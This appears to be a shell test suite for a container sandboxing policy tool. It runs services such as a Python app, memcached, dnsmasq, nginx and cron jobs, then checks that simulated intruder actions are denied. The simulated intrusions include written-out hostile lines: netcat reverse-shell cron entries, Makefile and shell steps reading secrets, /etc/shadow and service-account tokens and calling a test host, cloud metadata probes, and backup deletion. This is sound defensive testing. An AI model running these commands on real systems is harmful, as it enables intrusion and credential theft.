# SPDX-License-Identifier: GPL-2.0
# shellcheck shell=sh
#
# The other policy-examples (services.sh has nginx, Redis and PostgreSQL): the program of
# each in a container of crun's under its policy. It does what it is for, and nothing of
# that is told; what an intruder would have it do is denied and told; and of its end
# nothing is told either.

. "${0%/*}/lib.sh"
. "${0%/*}/oci.sh"

box=/srv/rootfs/busybox
# Python is slow to start in an emulated guest.
SECONDS_MAX=60

# ------------------------------------------------------------- a Python service

python_page()
{
	busybox wget -q -O - "http://$there:8000/$1"
}

python_service_answers()
{
	says hello python_page hello
}

python_service()
{
	begin python-service
	mkdir -p "$layer/upper/srv/app" "$layer/upper/tmp"
	chmod 1777 "$layer/upper/tmp"
	cat > "$layer/upper/srv/app/app.py" << 'end'
import ctypes, shutil, socket, subprocess, tempfile
def hello(): return "hello"
def database():
    with socket.create_connection(("10.88.0.1", 5432)) as s:
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return s.makefile().read()
def upload():
    with tempfile.NamedTemporaryFile() as f:
        f.write(b"kept")
        f.flush()
        return open(f.name).read()
def program(): return subprocess.check_output(["/bin/sh", "-c", "id"])
def environment(): return open("/proc/1/environ").read()
def library(): return ctypes.CDLL(shutil.copy("/usr/lib/x86_64-linux-gnu/libz.so.1", "/tmp/libz.so"))
def metadata(): return socket.create_connection(("169.254.169.254", 80), 5)
def elsewhere(): return socket.create_connection(("10.88.0.1", 9000), 5)
def application(environ, start):
    try:
        text = str(globals()[environ["PATH_INFO"][1:]]())
    except OSError as e:
        text = str(e)
    start("200 OK", [("Content-Type", "text/plain")])
    return [text.encode()]
end
	running / www-data /usr/bin/gunicorn --chdir /srv/app -b 0.0.0.0:8000 app:application
	accepted "it_asks_the_database ($container)" says "the shop" python_page database
	accepted "it_keeps_an_upload ($container)" says kept python_page upload
	nothing_told
	has "no_library ($container)" "$(python_page library)" "failed to map"
	for attack in program environment metadata elsewhere; do
		denied "no_$attack" "$(python_page $attack)"
	done
	finish TERM "exec /usr/bin/dash" "read /proc/1/environ" "map /tmp/libz.so" \
		"connect tcp 169.254.169.254:80" "connect tcp $here:9000"
}

# -------------------------------------------------------------------- memcached

memcached_asks()
{
	printf 'set k 0 60 5\r\nhello\r\nget k\r\nquit\r\n' | timeout 10 nc -N $there 11211
}

memcached_answers()
{
	says hello memcached_asks
}

memcached()
{
	begin memcached
	running / memcache /usr/bin/memcached -m 16 -t 1
	nothing_told
	denied "there_is_no_udp" \
		"$(crun exec -u "$(id -u memcache):$(id -g memcache)" "$container" /usr/bin/memcached -p 0 -U 11211 2>&1 < /dev/null)"
	denied "there_is_no_shell" "$(inside /bin/sh -c :)"
	finish TERM "bind udp 0.0.0.0:11211" "exec /usr/bin/dash"
}

# ---------------------------------------------------------------------- dnsmasq

dns_cache_answers()
{
	says 10.1.2.3 busybox nslookup shop.test $there
}

dns_cache()
{
	begin dns-cache
	/usr/sbin/dnsmasq -k -a $here -z -R -h --address=/up.test/192.0.2.9 > "$work/upstream.log" 2>&1 &
	servers="$servers $!"
	running / root /usr/sbin/dnsmasq -k -R --address=/shop.test/10.1.2.3 --server=$here
	accepted "it_asks_its_server ($container)" says 192.0.2.9 busybox nslookup up.test $there
	nothing_told
	denied "it_serves_no_files" "$(inside /usr/sbin/dnsmasq -k -p 0 --enable-tftp --tftp-root=/)"
	denied "there_is_no_shell" "$(inside /bin/sh -c :)"
	finish TERM "bind udp 0.0.0.0:69" "exec /usr/bin/dash"
}

# ---------------------------------------------------------------- BusyBox httpd

static_page()
{
	busybox wget -q -O - "http://$there:8080$1"
}

static_files_answers()
{
	says "<title>box" static_page /
}

static_files()
{
	begin static-files
	mkdir -p "$layer/upper/var/www/cgi-bin"
	printf '#!/bin/sh\necho; id\n' > "$layer/upper/var/www/cgi-bin/id"
	chmod 755 "$layer/upper/var/www/cgi-bin/id"
	ln -s /srv/payroll "$layer/upper/var/www/payroll"
	running "$box" www-data /bin/busybox httpd -f -p 8080 -h /var/www
	nothing_told
	static_page /cgi-bin/id > "$work/log" 2>&1
	is "no_program_runs ($container)" "$(grep uid= "$work/log")" ""
	static_page /payroll > "$work/log" 2>&1
	is "no_link_leads_elsewhere ($container)" "$(grep chief "$work/log")" ""
	finish KILL "exec /var/www/cgi-bin/id" "read /srv/payroll"
}

# --------------------------------------------------------------- a pod and its sidecar

# pod_begin NAME MODE: one of its containers. They share the namespaces of the network and
# of IPC, and a volume, mounted with MODE. Its annotations are those of CRI-O, and its policy
# is the one that matches them.
pod_begin()
{
	begin "pod-$1"
	named=
	secrets=$layer/upper/run/secrets/kubernetes.io/serviceaccount
	mkdir -p "$secrets/..1" "$work/shared"
	echo "a token" > "$secrets/..1/token"
	ln -s ..1 "$secrets/..data"
	ln -s ..data/token "$secrets/token"
	more='(.linux.namespaces[] | select(.type == "ipc")).path = "/run/bulkhead-test/ipc" |
		.mounts += [{destination: "/shared", type: "bind", source: "/run/bulkhead-test/shared",
			options: ["bind", "'$2'"]}] |
		.annotations += {"io.kubernetes.cri-o.ContainerType": "container",
			"io.kubernetes.cri-o.SandboxID": "pod", "io.kubernetes.container.name": "'$1'"}'
	# The pod's labels are in its sandbox's bundle alone, as CRI-O has it.
	mkdir -p "$work/bundles/pod"
	echo '{"annotations": {"io.kubernetes.cri-o.Labels": "{\"app\": \"shop\"}"}}' \
		> "$work/bundles/pod/config.json"
}

pod_app_answers()
{
	says "the app" ip netns exec services busybox wget -q -O - http://127.0.0.1:8080/
}

pod_page()
{
	printf 'GET %s HTTP/1.0\r\n\r\n' "$1" |
		timeout 20 openssl s_client -quiet -connect $there:443 2> "$work/ignored"
}

pod_proxy_answers()
{
	says "the app" pod_page /
}

pod_is_bound()
{
	bulkhead ps --json | jq -e '["pod-app", "pod-proxy"] -
		[.. | objects | select(.container? == .policy?) | .policy] == []' > "$work/ignored"
}

pod()
{
	: > "$work/ipc"
	unshare --ipc="$work/ipc" true
	pod_begin app rw
	mkdir -p "$layer/upper/srv/site"
	echo "the app" > "$layer/upper/srv/site/index.html"
	running "$box" www-data /bin/busybox httpd -f -p 127.0.0.1:8080 -h /srv/site

	pod_begin proxy ro
	mkdir -p "$layer/upper/etc/nginx"
	cat > "$layer/upper/etc/nginx/pod.conf" <<- end
		user www-data; pid /run/nginx.pid; events {}
		http {
			access_log /var/log/nginx/access.log;
			server {
				listen 443 ssl;
				ssl_certificate /etc/ssl/certs/ssl-cert-snakeoil.pem;
				ssl_certificate_key /etc/ssl/private/ssl-cert-snakeoil.key;
				location / { proxy_pass http://127.0.0.1:8080; }
				location /shared/ { alias /shared/; }
				location /files/ { alias /; }
				location /elsewhere/ { proxy_pass http://$here:9000; }
			}
		}
	end
	running / root /usr/sbin/nginx -c /etc/nginx/pod.conf -g 'daemon off;'
	container=pod-app inside /bin/busybox cp /srv/site/index.html /shared/page
	accepted "each_has_its_own_policy" pod_is_bound
	accepted "it_serves_what_the_other_wrote ($container)" says "the app" pod_page /shared/page
	nothing_told
	token=/run/secrets/kubernetes.io/serviceaccount
	is "nobody_gets_the_token ($container)" "$(pod_page /files$token/token | grep -c "a token")" 0
	is "nor_anywhere_else ($container)" "$(pod_page /elsewhere/ | grep -c "the shop")" 0
	finish QUIT "read $token/..1/token" "connect tcp $here:9000"

	speak_of pod-app
	inside /bin/sh -c "cat $token/token; httpd -f -p $there:443; wget -q -O - http://$here:8000/" > "$work/log"
	all_denied 3
	finish KILL "read $token/..1/token" "bind tcp $there:443" "connect tcp $here:8000"
	more=.
	umount "$work/ipc"
}

# ------------------------------------------------------------------ scheduled jobs

cron_job_answers()
{
	[ -s "$layer/upper/tmp/done" ]
}

cron_begin()
{
	begin cron-job
	mkdir -p "$layer/upper/var/spool/cron/crontabs" "$layer/upper/etc/jobs" "$layer/upper/data" \
		"$layer/upper/backup" "$layer/upper/tmp"
	echo ledger > "$layer/upper/data/ledger"
	echo old > "$layer/upper/backup/old.tar.gz"
	printf '* * * * * /etc/jobs/archive\n' > "$layer/upper/var/spool/cron/crontabs/root"
	cat > "$layer/upper/etc/jobs/archive" << 'end'
#!/bin/sh
tar -C / -czf /backup/new.tar.gz data && echo archived > /tmp/done
end
	cat > "$layer/upper/etc/jobs/intruder" << 'end'
#!/bin/sh
echo '* * * * * nc 10.88.0.1 8000 -e sh' >> /var/spool/cron/crontabs/root
echo '* * * * * nc 10.88.0.1 8000 -e sh' > /var/spool/cron/crontabs/www
rm -f /backup/old.tar.gz
wget -q -O - http://10.88.0.1:8000/
end
	chmod 755 "$layer/upper/etc/jobs/archive" "$layer/upper/etc/jobs/intruder"
	# It wakes when the minute is full, which will be while other examples run.
	date -s "@$(($(date +%s) / 60 * 60 + 35))" > "$work/ignored"
	started "$box" root /bin/busybox crond -f || fail "it_starts ($container)" "$(cat "$work/log.$container" "$work/hook.log")"
}

cron_end()
{
	speak_of cron-job
	wait_until answers || fail "it_runs_the_job ($container)" "$(cat "$work/log.$container")"
	is "it_has_archived ($container)" \
		"$(busybox tar -xzOf "$layer/upper/backup/new.tar.gz" data/ledger 2>&1)" ledger
	nothing_told
	inside /etc/jobs/intruder > "$work/log"
	all_denied 4
	is "the_old_archive_is_there ($container)" "$(cat "$layer/upper/backup/old.tar.gz")" old
	finish KILL "write /var/spool/cron/crontabs/root" "create /var/spool/cron/crontabs/www" \
		"delete /backup/old.tar.gz" "create tcp"
}

# ------------------------------------------------------------------------ a build

build_job()
{
	begin build-job
	mkdir -p "$layer/upper/src" "$layer/upper/build" "$layer/upper/run/secrets"
	echo token > "$layer/upper/run/secrets/token"
	cat > "$layer/upper/src/hello.c" << 'end'
#include <stdio.h>
int main(void) { puts("hello, it was built"); }
end
	cat > "$layer/upper/src/Makefile" << 'end'
test: hello
	./hello
hello: /src/hello.c
	gcc -O1 -o $@ $<
evil:
	-cat /run/secrets/token
	-busybox wget -q -O - http://10.88.0.1:8000/
	-echo x >> /src/hello.c
end
	root_end
	once root /usr/bin/make -C /build -f /src/Makefile
	has "it_builds_and_tests ($container)" "$(cat "$work/log")" "hello, it was built"
	nothing_told
	once root /usr/bin/make -C /build -f /src/Makefile evil
	all_denied 3
	leave
	told_only "read /run/secrets/token" "create tcp" "write /src/hello.c"
}

# ---------------------------------------------------------------------- a batch job

batch_job()
{
	begin batch-job
	mkdir -p "$layer/upper/opt/job/bin" "$layer/upper/data/in" "$layer/upper/data/out" "$layer/upper/tmp"
	chmod 1777 "$layer/upper/tmp"
	echo "one two three" > "$layer/upper/data/in/words"
	cat > "$layer/upper/opt/job/bin/count" << 'end'
#!/usr/bin/python3 -B
import ctypes, glob, multiprocessing, shutil, socket, sys
def count(name): return len(open(name).read().split())
def attempt(name, what):
    try:
        what()
        print(name, "yes")
    except OSError as e:
        print(name, e)
if len(sys.argv) == 1:
    with multiprocessing.Pool(2) as pool:
        total = sum(pool.map(count, glob.glob("/data/in/*")))
    print(total, file=open("/data/out/total", "w"))
else:
    attempt("network", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM))
    attempt("input", lambda: open("/data/in/words", "w"))
    attempt("library", lambda: ctypes.CDLL(shutil.copy("/usr/lib/x86_64-linux-gnu/libz.so.1", "/tmp/libz.so")))
end
	chmod 755 "$layer/upper/opt/job/bin/count"
	root_end
	once root /opt/job/bin/count
	is "it_counts ($container)" "$(cat "$layer/upper/data/out/total" "$work/log" 2>&1)" 3
	nothing_told
	once root /opt/job/bin/count smuggled
	all_denied 3
	leave
	told_only "create tcp" "write /data/in/words" "map /tmp/libz.so"
}

# --------------------------------------------------------------------------- shells

minimal()
{
	begin minimal
	echo secret > "$layer/upper/etc/shadow"
	root_end "$box"
	once root /bin/sh -c "ls /etc; grep -c root /etc/passwd; ps | head -n 1; expr 6 \* 7"
	for part in passwd PID 42; do
		has "it_shows $part ($container)" "$(cat "$work/log")" "$part"
	done
	nothing_told
	once root /bin/sh -c 'cat /etc/shadow; echo x > /tmp/x; wget -q -O - http://10.88.0.1:8000/'
	all_denied 3
	leave
	told_only "read /etc/shadow" "create /tmp/x" "create tcp"
}

debug_shell()
{
	begin debug-shell
	mkdir -p "$layer/upper/data"
	echo ledger > "$layer/upper/data/ledger"
	root_end
	once root /bin/sh -c 'ps ax; ss -ltn; ip addr; ls /data; cat /data/ledger
		strace -e trace=execve ls; grep MemTotal /proc/meminfo'
	for part in "ps ax" Local $there/24 ledger 'execve("' MemTotal; do
		has "it_shows $part ($container)" "$(cat "$work/log")" "$part"
	done
	nothing_told
	once root /bin/sh -c 'echo x > /data/ledger; cat /etc/shadow; cat /proc/1/environ
		busybox wget -q -O - http://10.88.0.1:8000/; echo x > /dev/shm/x'
	all_denied 5
	leave
	told_only "write /data/ledger" "read /etc/shadow" "connect tcp $here:8000" \
		"create /dev/shm/x"
}

# --------------------------------------------------------------------------------

accepted "there_is_a_network" network
spec
serve 5432 8000 9000
for name in minimal static-files memcached dns-cache python-service batch-job build-job debug-shell pod cron-job; do
	set -- "$@" "$examples/$name.yaml"
done
accepted "the_policies_load" bulkhead load "$@"
sent_before=$(sent)
rm -f "$work/events.err"
bulkhead events --json > "$work/events" 2> "$work/events.err" &
events_pid=$!
wait_until grep -qs ready "$work/events.err"

cron_begin
for example in minimal static-files memcached dns-cache python-service batch-job build-job debug-shell pod cron-end; do
	read -r before _ < /proc/uptime
	"$(echo "$example" | tr - _)"
	read -r after _ < /proc/uptime
	echo "# $example took $(echo "$after $before" | awk '{ printf "%.1f", $1 - $2 }') s"
done

kill $events_pid
wait $events_pid
network_end
